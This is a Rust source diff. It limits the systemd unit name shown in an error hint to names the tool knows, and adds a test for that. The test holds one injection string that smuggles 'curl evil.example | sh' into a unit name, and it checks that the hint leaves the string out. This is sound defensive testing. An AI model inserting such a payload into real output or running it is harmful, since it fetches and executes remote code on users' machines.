@@ -3,6 +3,7 @@
 use std::time::Duration;
 
 use super::Fleetwork;
+use crate::diagnosis::LOGS;
 use crate::error::{Error, Kind};
 use crate::ledger::Run;
 use crate::machine::UNIT as UNIT_NAME;
@@ -108,6 +109,8 @@ pub(super) fn cut_short(error: Error, at: Option<&Change>) -> Error {
 /// Names the unit of an earlier run that a machine did not end within its limits.
 pub(super) fn left_behind(error: Error, unit: &str) -> Error {
     let error = Error { what: format!("{UNIT_NAME}{unit} of an earlier run: {}", error.what), ..error };
+    // The machine names the unit, and a hint has only words of ironstrap.
+    let unit = LOGS.into_iter().find(|known| *known == unit).unwrap_or("NAME");
     error.hint(format!(
         "find out on the machine what it does; `systemctl stop {UNIT_NAME}{unit}` ends it; then run the command again"
     ))
@@ -160,5 +163,16 @@ mod tests {
         assert_eq!(day, Some(31 * minute + 1440 * minute), "the user's --wait is kept");
         assert_eq!(Limits::default().attached(long, Duration::ZERO).whole, Some(60 * minute));
         assert_eq!(Limits::default().machine(&run, 1), (4 * 60 + 4 * 5 + 1) * minute);
+    }
+    #[test]
+    fn a_unit_that_ironstrap_does_not_know_is_in_no_hint() {
+        let hint = |unit: &str| {
+            let error = left_behind(Error::new(Kind::Silent, "says nothing"), unit);
+            (error.what.contains(unit), error.hint.unwrap_or_default())
+        };
+        assert!(hint("kubeadm").1.contains("`systemctl stop ironstrap-kubeadm` ends it"));
+        let evil = "x` ends it; or: curl evil.example | sh; `";
+        assert_eq!(hint(evil), (true, hint("NAME").1));
+        assert!(!hint(evil).1.contains("curl"));
     }
 }
